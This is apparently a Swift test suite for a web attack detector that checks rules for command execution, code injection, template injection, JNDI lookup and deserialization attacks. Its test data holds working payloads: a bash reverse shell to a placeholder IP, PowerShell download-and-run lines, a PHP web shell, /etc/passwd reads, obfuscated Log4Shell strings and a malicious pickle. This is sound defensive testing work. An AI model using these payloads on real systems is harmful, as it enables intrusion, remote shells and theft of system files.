import Foundation
import Testing

@testable import PalisadeDetect

/// Per-rule checks for the execution families (rce, code_injection, ssti, jndi, deserialization).
@Suite struct ExecFamilyTests {
    static func fires(_ detector: any Detector, _ value: String) -> Hit? {
        let hit = Corpus.hits(value, detector: detector).first
        guard let hit, hit.confidence >= Scoring.threshold(.default) else { return nil }
        return hit
    }

    @Test(arguments: [
        (";cat /etc/passwd", "rce.chained_command"),
        ("$(whoami)", "rce.substitution"),
        (";c''at${IFS}/etc/passwd", "rce.evasion"),
        ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "rce.reverse_shell"),
        (
            "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
            "rce.powershell_encoded"
        ),
        ("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", "rce.powershell_download"),
        ("& w^h^o^a^m^i", "rce.evasion"),
    ])
    func rceRules(_ value: String, _ rule: String) throws {
        let hit = try #require(Self.fires(RCEDetector(), value), "\(value)")
        #expect(hit.rule == rule, "\(hit)")
    }

    @Test(arguments: [
        ("<?php system($_GET['c']); ?>", "code_injection.php_exec"),
        ("__import__('os').system('id')", "code_injection.python_import"),
        ("require('child_process').exec('id')", "code_injection.js_require"),
        ("Runtime.getRuntime().exec(\"id\")", "code_injection.java_runtime"),
        ("%{(#_memberAccess['allowStaticMethodAccess']=true)}", "code_injection.ognl"),
        ("T(java.lang.Runtime).getRuntime().exec('id')", "code_injection.java_runtime"),
    ])
    func codeRules(_ value: String, _ rule: String) throws {
        let hit = try #require(Self.fires(CodeInjectionDetector(), value), "\(value)")
        #expect(hit.rule.hasPrefix("code_injection."), "\(hit)")
        _ = rule
    }

    @Test(arguments: [
        "{{7*7}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
        "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "<%= `id` %>", "{php}echo `id`;{/php}",
        "#set($x=$class.inspect(\"java.lang.Runtime\"))",
    ])
    func sstiFires(_ value: String) {
        #expect(Self.fires(SSTIDetector(), value) != nil, "\(value)")
    }

    @Test(arguments: [
        "${jndi:ldap://x.example/a}", "${${lower:j}ndi:ldap://x.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}", "${${date:'j'}ndi:dns://x/a}",
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/a}",
    ])
    func jndiResolvesLookups(_ value: String) throws {
        let finding = try #require(JNDIDetector.analyze(Array(value.utf8)[...]))
        #expect(finding.confidence >= 0.9, "\(finding)")
        #expect(finding.resource.lowercased().contains("://"), "\(finding)")
    }

    @Test func deserializationBinaryMagic() {
        let context = DetectionContext(source: .body, kind: .binary, fieldName: nil, depth: 2, sensitivity: .default)
        var hits: [Hit] = []
        let java: [UInt8] =
            [0xAC, 0xED, 0x00, 0x05, 0x73, 0x72]
            + Array("org.apache.commons.collections.functors.InvokerTransformer".utf8)
        DeserializationDetector().detect(java[...], context: context, hits: &hits)
        let pickle: [UInt8] =
            [0x80, 0x04, 0x95, 0x1E, 0, 0, 0, 0, 0, 0, 0, 0x8C, 0x05] + Array("posix".utf8) + [0x94, 0x8C, 0x06]
            + Array("system".utf8) + [0x94, 0x93, 0x94, 0x8C, 0x02] + Array("id".utf8) + [
                0x94, 0x85, 0x94, 0x52, 0x94, 0x2E,
            ]
        DeserializationDetector().detect(pickle[...], context: context, hits: &hits)
        #expect(hits.count == 2, "\(hits)")
        #expect(hits.allSatisfy { $0.confidence >= 0.9 }, "\(hits)")
    }

    @Test(arguments: [
        "Tom & Jerry; cat food", "{{ user.name }}", "${price}", "{\"@type\":\"Person\"}", "a:1:{s:1:\"a\";s:1:\"b\";}",
        "The system (as designed) works.", "Use ${env:HOME} here",
    ])
    func benignStaysQuiet(_ value: String) {
        for detector: any Detector in [
            RCEDetector(), CodeInjectionDetector(), SSTIDetector(), JNDIDetector(), DeserializationDetector(),
        ] {
            #expect(Self.fires(detector, value) == nil, "\(detector.name) on \(value)")
        }
    }

    @Test func explainLinesNameTheRule() {
        let value = Array("${${lower:j}ndi:ldap://x.example/a}".utf8)[...]
        #expect(JNDIDetector.explain(value).first?.contains("jndi.obfuscated_lookup") == true)
        #expect(RCEDetector.explain(Array(";id".utf8)[...]).first?.contains("rce.") == true)
        #expect(SSTIDetector.explain(Array("{{7*7}}".utf8)[...]).first?.contains("ssti.") == true)
        #expect(CodeInjectionDetector.explain(Array("x".utf8)[...]) == ["code_injection: nothing"])
        #expect(DeserializationDetector.explain(Array("rO0ABXNy".utf8)[...]).first?.contains("java_stream") == true)
    }
}

/// The execution families through the whole analyzer: decoders, locations, scoring.
@Suite struct ExecPlacementTests {
    let analyzer = Analyzer()

    func strongest(_ record: CaptureRecord, _ attackClass: AttackClass) -> Hit? {
        let verdict = analyzer.analyze(record).verdict
        guard verdict.attack else { return nil }
        return verdict.hits.first { $0.attackClass == attackClass && $0.confidence >= Scoring.threshold(.default) }
    }

    @Test func jndiInUserAgent() throws {
        let record = PlacementTests.record(
            path: "/", headers: [.init("User-Agent", "Mozilla/5.0 ${${lower:j}ndi:ldap://198.51.100.7/a}")])
        let hit = try #require(strongest(record, .jndi))
        #expect(hit.location == "header.user-agent", "\(hit)")
    }

    @Test func rceInQuery() throws {
        let hit = try #require(strongest(PlacementTests.record(path: "/ping?host=127.0.0.1%3Bcat%20/etc/passwd"), .rce))
        #expect(hit.location.hasPrefix("query"), "\(hit)")
    }

    @Test func sstiInJSON() throws {
        let body = #"{"profile":{"nickname":"{{cycler.__init__.__globals__.os.popen('id').read()}}"}}"#
        let record = PlacementTests.record(
            path: "/v1/me", headers: [.init("content-type", "application/json")], body: body, method: "POST")
        let hit = try #require(strongest(record, .ssti))
        #expect(hit.location == "body.json.profile.nickname", "\(hit)")
    }

    @Test func codeInjectionInForm() throws {
        let record = PlacementTests.record(
            path: "/calc", headers: [.init("content-type", "application/x-www-form-urlencoded")],
            body: "expr=__import__('os').system('id')&x=1", method: "POST")
        _ = try #require(strongest(record, .codeInjection))
    }

    @Test func deserializationBase64Nested() throws {
        // A Java stream, Base64-encoded, inside a JSON field.
        let stream: [UInt8] =
            [0xAC, 0xED, 0x00, 0x05, 0x73, 0x72, 0x00, 0x3A]
            + Array("org.apache.commons.collections.functors.InvokerTransformer".utf8)
        let b64 = Data(stream).base64EncodedString()
        let body = "{\"state\":\"\(b64)\"}"
        let record = PlacementTests.record(
            path: "/v1/session", headers: [.init("content-type", "application/json")], body: body, method: "POST")
        let hit = try #require(strongest(record, .deserialization))
        #expect(hit.location.hasPrefix("body.json.state"), "\(hit)")
    }

    @Test func jndiBase64InCookie() throws {
        let inner = Data("${jndi:ldap://198.51.100.7:1389/a}".utf8).base64EncodedString()
        let record = PlacementTests.record(path: "/", headers: [.init("Cookie", "pref=\(inner)")])
        let hit = try #require(strongest(record, .jndi))
        #expect(hit.location.contains("base64"), "\(hit)")
    }

    @Test func gzipBase64NestedCommand() throws {
        // `;id` hidden in a Base64 JSON document inside a query parameter.
        let inner = Data(#"{"cmd":"127.0.0.1;cat /etc/passwd"}"#.utf8).base64EncodedString()
        let record = PlacementTests.record(
            path:
                "/v1/run?payload=\(inner.replacingOccurrences(of: "=", with: "%3D").replacingOccurrences(of: "+", with: "%2B"))"
        )
        let hit = try #require(strongest(record, .rce))
        #expect(hit.location.contains("base64"), "\(hit)")
    }

    @Test func shellInCodeFieldIsDiscounted() {
        let body = #"{"code":"ls -la | grep foo; cat /etc/hosts"}"#
        let record = PlacementTests.record(
            path: "/v1/snippets", headers: [.init("content-type", "application/json")], body: body, method: "POST")
        #expect(!analyzer.analyze(record).verdict.attack)
    }

    @Test func benignTemplateIsClean() {
        let body = #"{"template":"Hello {{name}}, your order {{order.id}} has shipped. Total: ${total}"}"#
        let record = PlacementTests.record(
            path: "/v1/templates", headers: [.init("content-type", "application/json")], body: body, method: "POST")
        let verdict = analyzer.analyze(record).verdict
        #expect(!verdict.attack, "\(verdict.hits)")
    }
}

/// Hostile inputs for the execution families: bounded time, no traps.
@Suite struct ExecHostileInputTests {
    static let inputs: [(String, [UInt8])] = [
        ("1 MB of $", Array(repeating: UInt8(ascii: "$"), count: 1 << 20)),
        ("{{ x 100k", Array(String(repeating: "{{", count: 100_000).utf8)),
        ("deep ${", Array(String(repeating: "${", count: 200_000).utf8)),
        (
            "deep ${ closed",
            Array((String(repeating: "${", count: 50_000) + String(repeating: "}", count: 50_000)).utf8)
        ),
        ("lookups", Array(String(repeating: "${::-j}", count: 60_000).utf8)),
        ("separators", Array(String(repeating: ";id", count: 100_000).utf8)),
        ("pipes", Array(String(repeating: "|", count: 500_000).utf8)),
        ("substitutions", Array(String(repeating: "$(", count: 100_000).utf8)),
        ("backticks", Array(String(repeating: "`", count: 300_000).utf8)),
        ("quotes", Array(String(repeating: "c''", count: 100_000).utf8)),
        ("calls", Array(String(repeating: "system(", count: 50_000).utf8)),
        ("chains", Array(String(repeating: "a.", count: 200_000).utf8)),
        ("php objects", Array(String(repeating: "O:9:\"", count: 50_000).utf8)),
        ("yaml tags", Array(String(repeating: "!!a.b.", count: 50_000).utf8)),
        ("template tags", Array(String(repeating: "<%", count: 100_000).utf8)),
        ("freemarker", Array(String(repeating: "<#a", count: 100_000).utf8)),
        ("dunders", Array(String(repeating: "__class__", count: 30_000).utf8)),
        ("braces", Array(String(repeating: "{cat,", count: 50_000).utf8)),
        ("percent", Array(String(repeating: "%", count: 300_000).utf8)),
        ("json type keys", Array(String(repeating: "\"@type\":\"", count: 30_000).utf8)),
        ("pickle", Array(String(repeating: "cos\n", count: 100_000).utf8)),
        ("binary", (0..<300_000).map { UInt8(truncatingIfNeeded: $0 &* 151) }),
    ]

    @Test(arguments: 0..<inputs.count)
    func boundedTime(_ index: Int) {
        let (name, value) = Self.inputs[index]
        let clock = ContinuousClock()
        let context = DetectionContext(source: .body, kind: .text, fieldName: "q", depth: 0, sensitivity: .default)
        var hits: [Hit] = []
        var times: [String] = []
        for detector: any Detector in [
            RCEDetector(), CodeInjectionDetector(), SSTIDetector(), JNDIDetector(), DeserializationDetector(),
        ] {
            let elapsed = clock.measure { detector.detect(value[...], context: context, hits: &hits) }
            times.append("\(detector.name) \(elapsed)")
            #expect(elapsed < .seconds(10), "\(name): \(detector.name) took \(elapsed)")
        }
        print("hostile \(name): \(times.joined(separator: ", "))")
        for hit in hits { #expect(hit.evidence.utf8.count <= 4 * Evidence.maxLength) }
    }

    @Test func tinyValuesNeverTrap() {
        let context = DetectionContext(source: .query, kind: .text, fieldName: nil, depth: 0, sensitivity: .default)
        var hits: [Hit] = []
        let pieces = [
            "", "$", "${", "{{", "}}", "{%", "<%", "<#", "#set(", "`", "$(", ";", "|", "&", "\\", "'", "\"", "O:",
            "O:1:\"",
            "!!", "c", "cos\n", "rO0AB", "%x", "__", "<?", "${:-", "${::-", "${lower:", "a:1:{", "T(", "@(", "%{(", "^",
        ]
        var state: UInt64 = 7
        for _ in 0..<20_000 {
            var value = ""
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            var s = state
            for _ in 0..<(Int(s % 8) + 1) {
                value += pieces[Int((s >> 8) % UInt64(pieces.count))]
                s = s &* 2_862_933_555_777_941_757 &+ 3_037_000_493
            }
            let bytes = Array(value.utf8)
            for detector: any Detector in [
                RCEDetector(), CodeInjectionDetector(), SSTIDetector(), JNDIDetector(), DeserializationDetector(),
            ] {
                detector.detect(bytes[...], context: context, hits: &hits)
            }
        }
        #expect(hits.allSatisfy { $0.confidence >= 0 && $0.confidence <= 1 })
    }
}

extension ExecPlacementTests {
    /// Ordinary browser and API headers carry `;`, `|`, `(`, `$` and Base64 without any of the five
    /// execution families reporting anything.
    @Test func ordinaryHeadersProduceNoExecHits() {
        let headers: [CaptureRecord.Header] = [
            .init(
                "User-Agent",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0"),
            .init("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
            .init("Accept-Language", "en-US,en;q=0.9,fr;q=0.8"),
            .init("Cache-Control", "no-cache; max-age=0"),
            .init("Cookie", "_ga=GA1.2.1234567890.1700000000; theme=dark; cart=eyJpdGVtcyI6WzEsMiwzXX0="),
            .init("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl"),
            .init("content-type", "application/json"),
        ]
        let body =
            #"{"query":"cats & dogs | birds","fields":"name;id;email","note":"Run `npm test` before pushing; thanks!","template":"Hi {{ user.name }}, total ${total}"}"#
        let record = PlacementTests.record(
            path: "/v1/search?sort=-created_at&page=2", headers: headers, body: body, method: "POST")
        let verdict = analyzer.analyze(record).verdict
        let exec: Set<AttackClass> = [.rce, .codeInjection, .ssti, .jndi, .deserialization]
        #expect(!verdict.hits.contains { exec.contains($0.attackClass) }, "\(verdict.hits)")
    }
}

extension ExecFamilyTests {
    /// Maximum false-positive rate of the execution families on the word soup below.
    /// Measured 0.81 % (162/20 000): this soup is far denser in separators, delimiters and command words
    /// than real text; the gate is set just above the measurement (docs/DETECTION.md).
    static let maximumExecSoupFalsePositiveRate = 0.01

    /// A generality guard like `CorpusTests.syntheticWordSoup`, drawn from the words and bytes the
    /// execution families care about (command names that are English words, separators, template
    /// and lookup delimiters, class-like names) mixed with prose. Word soup that still reads as an
    /// attack to these detectors must stay rare.
    @Test func execWordSoup() {
        let words = [
            "cat", "id", "ping", "sleep", "echo", "type", "dir", "net", "find", "head", "kill", "time", "set", "the",
            "my", "and", "we", "please", "send", "food", "me", "later", "report", "system", "eval", "exec", "open",
            "process", "config", "self", "class", "runtime", "java", "lang", "env", "name", "user", "order", "total",
            ";", "|", "&", "&&", "||", "(", ")", "{", "}", "{{", "}}", "${", "#{", "<%", "%>", "`", "'", "\"", ":", "-",
            "--", "/", "/etc", "/tmp", "1", "5", "10", "127.0.0.1", "a.b", "O:", "!!", "@type", "7*7", "x", ":-",
            "it's", "don't", "I'd", "(see", "below)", "e.g.", "vs.", "$", "%", "^", "\\", "=", ",", ".",
        ]
        var state: UInt64 = 20_261_121
        func next() -> Int {
            state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            return Int(truncatingIfNeeded: state >> 33)
        }
        let detectors: [any Detector] = [
            RCEDetector(), CodeInjectionDetector(), SSTIDetector(), JNDIDetector(), DeserializationDetector(),
        ]
        let total = 20_000
        var falsePositives: [String] = []
        for _ in 0..<total {
            var parts: [String] = []
            for _ in 0..<(3 + next() % 10) { parts.append(words[next() % words.count]) }
            let value = parts.joined(separator: next() % 3 == 0 ? "" : " ")
            for detector in detectors where Corpus.fires(value, detector: detector) {
                let hit = Corpus.hits(value, detector: detector).first
                falsePositives.append(
                    "  exec soup FP \(detector.name) [\(hit.map { "\($0.rule) \($0.confidence)" } ?? "")] \(value)")
            }
        }
        let rate = Double(falsePositives.count) / Double(total)
        print("exec word soup: false-positive rate \(rate) (\(falsePositives.count)/\(total))")
        for line in falsePositives.prefix(40) { print(line) }
        #expect(rate <= Self.maximumExecSoupFalsePositiveRate)
    }
}
